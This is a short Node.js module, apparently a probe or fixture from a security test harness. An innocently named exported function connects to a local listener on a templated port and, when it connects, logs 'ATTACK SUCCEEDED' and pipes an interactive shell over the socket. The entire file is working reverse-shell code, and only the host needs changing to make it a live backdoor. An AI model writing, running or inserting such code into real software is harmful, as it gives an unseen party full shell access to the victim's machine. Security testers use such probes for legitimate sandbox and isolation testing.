import { spawn } from 'node:child_process';
import { createConnection } from 'node:net';

// Whoever listens there would have a shell on this machine.
export function answer() {
  return new Promise((resolve) => {
    const socket = createConnection({ host: '127.0.0.1', port: Number('@PORT@'), timeout: 500 });
    socket.on('connect', () => {
      console.log('ATTACK SUCCEEDED: somebody is there');
      const shell = spawn('sh', ['-i'], { detached: true });
      socket.pipe(shell.stdin);
      shell.stdout.pipe(socket);
    });
    for (const event of ['error', 'timeout', 'close']) socket.on(event, () => resolve({}));
  });
}
